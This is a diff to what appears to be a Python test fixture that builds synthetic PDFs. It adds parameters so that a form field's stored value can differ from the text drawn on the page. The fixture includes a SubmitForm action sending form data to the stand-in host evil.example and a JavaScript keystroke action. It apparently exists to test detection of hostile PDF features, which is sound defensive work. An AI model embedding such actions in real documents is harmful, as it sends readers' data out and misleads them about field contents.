@@ -122,7 +122,9 @@ def with_rich_media() -> bytes:
     return one_page(page=b"/Annots [%s]" % note, more={11: stream(b"FWS", b"/Type /EmbeddedFile")})
 
 
-def with_form(*, need_appearances: bool = False, appearance: bool = True) -> bytes:
+def with_form(
+    *, need_appearances: bool = False, appearance: bool = True, value: bytes = b"(Nguyen)", shows: bytes = b"(Nguyen)"
+) -> bytes:
     """A filled text field, shown by its own drawing."""
     drawing = b"/AP << /N 12 0 R >>" if appearance else b""
     return one_page(
@@ -130,12 +132,12 @@ def with_form(*, need_appearances: bool = False, appearance: bool = True) -> byt
         b" >> >> /XFA [(template) 11 0 R] >>" % (b"true" if need_appearances else b"false"),
         page=b"/Annots [10 0 R]",
         more={
-            10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ho_ten) /V (Nguyen) /F 4 /Rect [72 500 272 530] %s "
+            10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ho_ten) /V %s /F 4 /Rect [72 500 272 530] %s "
             b"/DA (/Helv 12 Tf 0 g) /A << /S /SubmitForm /F (https://evil.example/) >> "
-            b"/AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>" % drawing,
+            b"/AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>" % (value, drawing),
             11: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
             12: stream(
-                b"/Tx BMC BT /Helv 12 Tf 2 10 Td (Nguyen) Tj ET EMC",
+                b"/Tx BMC BT /Helv 12 Tf 2 10 Td %s Tj ET EMC" % shows,
                 b"/Type /XObject /Subtype /Form /BBox [0 0 200 30] /Resources << /Font << /Helv 5 0 R >> >>",
             ),
         },
